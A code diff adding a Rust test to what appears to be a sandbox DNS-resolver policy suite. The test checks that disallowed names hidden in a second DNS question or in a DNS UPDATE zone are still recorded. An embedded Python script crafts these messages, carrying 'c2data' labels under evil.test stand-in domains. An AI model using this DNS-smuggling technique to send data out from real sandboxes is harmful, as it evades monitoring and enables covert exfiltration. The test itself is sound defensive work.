@@ -265,3 +265,78 @@ fn one_sandbox_resolving_many_wide_names_does_not_grow_the_agent_without_bound()
         "another policy's name resolves: {victim} {again}"
     );
 }
+
+/// A sandbox's query carrying a name it may not resolve beside one it may: one message
+/// with two questions (`allowed.test`, then `argv[1]`), and one DNS UPDATE (opcode 5)
+/// naming `argv[2]` as its zone; prints each reply's rcode.
+const PY_ODD_MESSAGES: &str = r#"
+import socket, struct, sys
+def name(n):
+    return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0"
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(5)
+c.connect(("192.0.2.53", 53))
+two = struct.pack("!HHHHHH", 7, 0x0100, 2, 0, 0, 0) + name("allowed.test") + struct.pack("!HH", 1, 1) + name(sys.argv[1]) + struct.pack("!HH", 1, 1)
+update = struct.pack("!HHHHHH", 8, 5 << 11, 1, 0, 0, 0) + name(sys.argv[2]) + struct.pack("!HH", 6, 1)
+for what, m in (("two", two), ("update", update)):
+    c.send(m)
+    try:
+        d = c.recv(512)
+        print(what, "rcode", d[3] & 15, flush=True)
+    except OSError as e:
+        print(what, "lost", e, flush=True)
+"#;
+
+/// A name the policy refuses, carried in a message hb does not answer (a second
+/// question, the zone of a DNS UPDATE), was refused (FORMERR, NOTIMP) without being
+/// judged: nothing recorded that the sandbox tried to resolve it, while the same name
+/// asked alone is a `name_not_allowed` event. Now every name such a message carries is
+/// judged and a refused one recorded (the message is still not answered).
+#[test]
+fn a_refused_name_hidden_in_a_message_hb_does_not_answer_is_still_recorded() {
+    let _dns = names_on_lo(
+        &["192.0.2.53"],
+        DNS_PORT,
+        &[("allowed.test", &["203.0.113.10"])],
+        60,
+    );
+    let env = started_agent(
+        "ar15odd",
+        &format!(
+            "{}\n[[policy]]\nname = \"web\"\nallow_domains = [\"allowed.test\"]\n",
+            resolver_config(DNS_PORT, true, "", &["203.0.113.0/24"])
+        ),
+    );
+    let said = nobody_run(
+        &env,
+        "web",
+        &[
+            python(),
+            "-c",
+            PY_ODD_MESSAGES,
+            "c2data-in-second-question.evil.test",
+            "c2data-in-update-zone.evil.test",
+        ],
+    );
+    let names: Vec<String> = env
+        .events()
+        .iter()
+        .filter(|e| e["hook"] == "dns")
+        .map(|e| format!("{}:{}", e["reason"], e["name"]))
+        .collect();
+    println!(
+        "figure: {} ; resolver events: {names:?}",
+        said.replace('\n', ", ")
+    );
+    assert!(
+        said.contains("two rcode") && said.contains("update rcode"),
+        "both messages were answered: {said}"
+    );
+    for hidden in [
+        "c2data-in-second-question.evil.test",
+        "c2data-in-update-zone.evil.test",
+    ] {
+        env.wait_event(&format!("name_not_allowed naming {hidden}"), |e| {
+            e["reason"] == "name_not_allowed" && e["name"] == hidden
+        });
+    }
+}
